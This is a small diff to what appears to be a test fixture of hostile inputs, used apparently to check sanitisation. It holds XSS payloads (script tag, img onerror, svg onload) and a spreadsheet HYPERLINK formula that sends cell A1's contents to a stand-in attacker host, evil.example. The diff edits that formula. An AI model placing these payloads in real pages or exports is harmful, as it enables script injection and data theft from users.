@@ -4,5 +4,5 @@ export const HOSTILE = {
   script: '<script>window.__pwned=1</script>',
   img: '<img src=x onerror="window.__pwned=2">',
   attr: '"><svg onload="window.__pwned=3">',
-  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"点此")',
+  formula: '=HYPERLINK("evil.example?leak="&A1,"点此")',
 } as const;
